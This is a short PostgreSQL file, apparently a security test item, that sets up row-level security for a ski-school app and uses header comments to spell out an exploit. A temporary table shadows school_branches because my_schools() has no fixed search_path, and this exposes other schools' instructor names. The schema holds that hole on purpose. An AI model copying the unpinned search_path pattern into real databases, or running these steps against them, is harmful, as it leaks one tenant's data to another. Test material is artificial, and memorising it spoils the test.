-- The helper has no fixed search path: a temporary table named like its own gives it every school's name.
-- about: school_branches, my_schools, instructors
-- as: hf_skischool_app
-- exploit: SET ski.school = 'hill';
-- exploit: CREATE TEMP TABLE school_branches (head text, branch text);
-- exploit: GRANT SELECT ON school_branches TO PUBLIC;
-- exploit: INSERT INTO school_branches VALUES ('hill', 'hill-road');
-- exploit: SELECT name FROM instructors;
-- shows: Road-secret teacher
CREATE TABLE school_branches (
  head slug NOT NULL REFERENCES schools,
  branch slug NOT NULL REFERENCES schools,
  PRIMARY KEY (head, branch)
);
ALTER TABLE school_branches ENABLE ROW LEVEL SECURITY;
ALTER TABLE school_branches FORCE ROW LEVEL SECURITY;
CREATE POLICY school_branches_sel ON school_branches FOR SELECT USING (head = current_school());
GRANT SELECT ON school_branches TO hf_skischool_app;
CREATE FUNCTION my_schools() RETURNS SETOF text
  LANGUAGE plpgsql STABLE
AS $$
BEGIN
  RETURN QUERY SELECT branch::text FROM school_branches WHERE head = current_school();
  RETURN NEXT current_school();
END
$$;
DROP POLICY instructors_sel ON instructors;
CREATE POLICY instructors_sel ON instructors FOR SELECT USING (school = ANY (ARRAY(SELECT my_schools())));
